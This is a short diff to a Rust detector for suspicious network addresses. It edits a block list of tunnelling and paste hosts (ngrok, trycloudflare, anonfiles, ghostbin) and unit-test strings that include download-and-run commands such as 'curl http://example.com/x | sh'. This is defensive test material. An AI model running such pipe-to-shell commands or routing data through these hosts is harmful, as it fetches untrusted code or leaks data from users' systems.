@@ -26,7 +26,7 @@ const DUBIOUS_HOSTS: &[&str] = &[
     "ngrok.app",
     "ngrok-free.app",
     "trycloudflare.com",
-    "gist.githubusercontent.com",
+    "ghostbin.com",
     "anonfiles.com",
 ];
 
@@ -84,7 +84,7 @@ mod tests {
             "curl http://example.com/x | sh",
             "curl https://bit.ly/x | sh",
             "curl https://user@sub.ngrok.io/x",
-            "see https://example.com and https://gist.githubusercontent.com/x",
+            "see https://example.com and https://tinyurl.com/x",
         ] {
             assert!(has_dubious_address(text), "{text}");
         }
